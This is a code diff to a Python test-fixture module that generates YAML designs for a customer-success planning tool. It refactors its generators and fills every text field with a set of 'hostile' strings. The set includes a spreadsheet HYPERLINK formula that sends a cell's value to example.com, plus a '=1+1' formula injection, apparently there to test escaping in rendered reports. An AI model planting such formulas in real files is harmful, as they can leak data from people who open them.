@@ -3,8 +3,16 @@
 from __future__ import annotations
 
 import json
+from typing import TYPE_CHECKING
 
-__all__ = ["HOSTILE", "company", "hostile"]
+from csdesign import api
+from csdesign.render.report.content import ReportContent
+from designs import design_of
+
+if TYPE_CHECKING:
+    from collections.abc import Sequence
+
+__all__ = ["HARMLESS", "HOSTILE", "company", "content_of", "wordy"]
 
 HOSTILE = (
     '=HYPERLINK("http://example.com/?"&A1,"x")',
@@ -29,6 +37,7 @@ HOSTILE = (
     "&amp;lt; &#60; %0a $x^2$",
 )
 """Texts that some file format would take for its own language, and scripts of the world."""
+HARMLESS = tuple(f"Plain words {i:02}" for i in range(len(HOSTILE)))
 
 _KINDS = (
     "csm",
@@ -98,13 +107,16 @@ def company(segments: int = 3, roles: int = 8, promises: int = 10) -> str:
     ]
     lines.append("engagement:")
     for stage, kind in _LEADS.items():
-        leads = ", ".join(f"{n}: lead" for n in names if n.rpartition("-")[0] == kind)
-        helpers = "".join(
-            f", {n}: contribute"
-            for n in names
-            if n.rpartition("-")[0] == {"onboard": "dc", "renew": "csm"}.get(stage)
-        )
-        lines.append(f"  {stage}: {{champion: {{{leads}{helpers}}}}}")
+        levels = {kind: "lead", {"onboard": "dc", "renew": "csm"}.get(stage, ""): "contribute"}
+        met = [
+            f"{name}: {levels[name.rpartition('-')[0]]}"
+            for name in names
+            if name.rpartition("-")[0] in levels
+        ]
+        if met:
+            lines.append(f"  {stage}: {{champion: {{{', '.join(met)}}}}}")
+    if lines[-1] == "engagement:":
+        lines.pop()
     return "\n".join(lines) + "\n"
 
 
@@ -116,8 +128,9 @@ def _segment(number: int, team: int, names: list[str], promises: int) -> list[st
         f"    new_accounts: {8 * (number % 20 + 1)}",
         f"    arr_per_account: {90000 // (number + 1)}",
         f"    traits: {{complexity: {1 + number % 5}, desired: {5 - number % 5}}}",
-        "    commercial: {renewal: negotiated, upsell: [organic], owner_today: renewals-team,"
-        " sales_capacity: sufficient}",
+        "    commercial:",
+        "      {renewal: negotiated, upsell: [organic], owner_today: renewals-team,",
+        "       sales_capacity: sufficient}",
         "    programme_hours: 40",
         "    interactions:",
     ]
@@ -152,25 +165,25 @@ def _role(kind: str, team: int, names: list[str], served: list[int]) -> list[str
     return lines
 
 
-def hostile() -> str:
-    """Return a design that has one of the hostile texts wherever words may stand."""
-    words = [json.dumps(text, ensure_ascii=False) for text in HOSTILE]
+def wordy(texts: Sequence[str] = HOSTILE) -> str:
+    """Return a design that has one of the texts wherever words may stand."""
+    words = [json.dumps(text, ensure_ascii=False) for text in texts]
 
     def word(number: int) -> str:
         return words[number % len(words)]
 
     lines = ["csdesign: 1", f"company: {{name: {word(1)}, currency: '=1+1'}}", "segments:"]
-    for i in range(len(HOSTILE)):
+    for i in range(len(texts)):
         lines += [
             f"  - id: s{i}",
             f"    name: {word(i)}",
             "    accounts: 50",
             "    interactions:",
-            f"      - {{id: talk{i}, name: {word(i + 3)}, stage: adopt, channel: human-1to1, "
-            "per_year: 12, minutes: 60, effort_hours: 3, role: r0}",
+            f"      - {{id: talk{i}, name: {word(i + 3)}, stage: adopt, channel: human-1to1,",
+            "         per_year: 12, minutes: 60, effort_hours: 3, role: r0}",
         ]
     lines.append("roles:")
-    for i in range(len(HOSTILE)):
+    for i in range(len(texts)):
         lines += [
             f"  - id: r{i}",
             f"    title: {word(i)}",
@@ -179,11 +192,14 @@ def hostile() -> str:
             f"    {'owns' if i == 0 else 'supports'}: [adopt]",
             f"    responsibilities: [{word(i + 4)}, {{does: {word(i + 5)}}}]",
             f"    requirements: [{word(i + 6)}]",
-            f"    kpis: [{{id: grr, weight: 50}}]",
-            f"    hands_off: [{{to: r{(i + 1) % len(HOSTILE)}, trigger: {word(i + 7)}}}]",
+            "    kpis: [{id: grr, weight: 50}]",
+            f"    hands_off: [{{to: r{(i + 1) % len(texts)}, trigger: {word(i + 7)}}}]",
         ]
     lines.append("positions:")
-    lines += [
-        f"  - {{id: p{i}, name: {word(i)}, roles: [r{i}]}}" for i in range(len(HOSTILE))
-    ]
+    lines += [f"  - {{id: p{i}, name: {word(i)}, roles: [r{i}]}}" for i in range(len(texts))]
     return "\n".join(lines) + "\n"
+
+
+def content_of(text: str, *overrides: str) -> ReportContent:
+    """Return what a report of a YAML text shows."""
+    return ReportContent(api.plan(design_of(text, *overrides)), version="1.2.3", source="d.yaml")
